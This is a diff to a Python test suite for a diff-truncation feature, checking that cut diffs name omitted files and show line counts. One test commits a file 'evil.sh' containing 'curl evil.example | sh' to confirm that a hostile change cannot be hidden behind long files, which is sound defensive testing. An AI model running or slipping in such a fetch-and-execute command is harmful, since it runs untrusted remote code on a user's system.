@@ -91,14 +91,52 @@ def test_a_diff_that_is_too_large_is_refused(
 
 def test_a_diff_for_one_answer_is_cut_after_a_line_and_says_so(repo: Repo, repository: Repository) -> None:
     base = repo.head()
-    tip = repo.commit({"a": "x\n" * 1000})
+    tip = repo.commit({"a": "x\n" * 5000})
     whole = diff(repository, base, tip)
 
-    cut = diff(repository, base, tip, most=500)
+    cut = diff(repository, base, tip, most=3000)
 
     assert diff(repository, base, tip, most=len(whole)) == whole
-    assert cut.endswith(b"+x\n" + CUT) and len(cut) <= 500 + len(CUT)
-    assert whole.startswith(cut.removesuffix(CUT))
+    told = b"... the rest of this file is left out: +5000 -0 in all\n" + CUT
+    assert cut.endswith(b"+x\n" + told) and len(cut) <= 3000 + len(told)
+    assert whole.startswith(cut.removesuffix(told))
+
+
+def test_one_line_between_two_changes_is_shown_and_not_folded(repo: Repo, repository: Repository) -> None:
+    was = repo.commit({"a": "".join(f"{number}\n" for number in range(30))})
+    tip = repo.commit({"a": "".join(f"{number + 100 * (number in (5, 13))}\n" for number in range(30))})
+
+    shown = diff(repository, was, tip)
+
+    assert shown.count(b"@@ -") == 1 and b"\n 9\n" in shown
+
+
+def test_a_long_file_hides_no_other_file_of_a_diff(repo: Repo, repository: Repository) -> None:
+    base = repo.head()
+    tip = repo.commit({"aaa.ts": "y" * 20_000, "evil.sh": "curl evil.example | sh\n", "long": "x\n" * 10_000})
+
+    cut = diff(repository, base, tip, most=10_000)
+
+    assert b"+curl evil.example | sh\n" in cut
+    assert b"+++ b/aaa.ts\n@@ -0,0 +1 @@\n... the rest of this file is left out: +1 -0 in all\n" in cut
+    assert cut.endswith(b"+x\n... the rest of this file is left out: +10000 -0 in all\n" + CUT)
+    assert b"not shown" not in cut
+
+
+def test_a_cut_diff_names_the_files_of_which_it_shows_nothing(repo: Repo, repository: Repository) -> None:
+    was = repo.commit({"old": "moved\n" * 50, "typed": "a file\n"})
+    (repo.path / "typed").unlink()
+    (repo.path / "typed").symlink_to("old")
+    repo("mv", "old", "zz-moved")
+    many = {f"m{number:02}": "x\n" * 600 for number in range(20)}
+    tip = repo.commit({**many, "a.bin": "\0" * 50_000, "zz-far": "y" * 99_000, "zz two\nlines": "x"})
+
+    cut = diff(repository, was, tip, most=13_000)
+
+    rows = [row.removeprefix(b"... not shown: ") for row in cut.splitlines() if row.startswith(b"... not shown: ")]
+    assert rows == [*(b"+600 -0 m%02d" % number for number in range(6, 20)), b"+1 -0 zz-far", b"+0 -0 zz-moved"]
+    assert all(one in cut for one in (b"b/a.bin differ", b"+++ b/m05\n", b"new file mode 120000", b"two\\nlines"))
+    assert cut.endswith(CUT) and len(cut) < 13_000 + 16 * 30 + 200
 
 
 def test_ancestors_and_merge_bases(repo: Repo, repository: Repository) -> None:
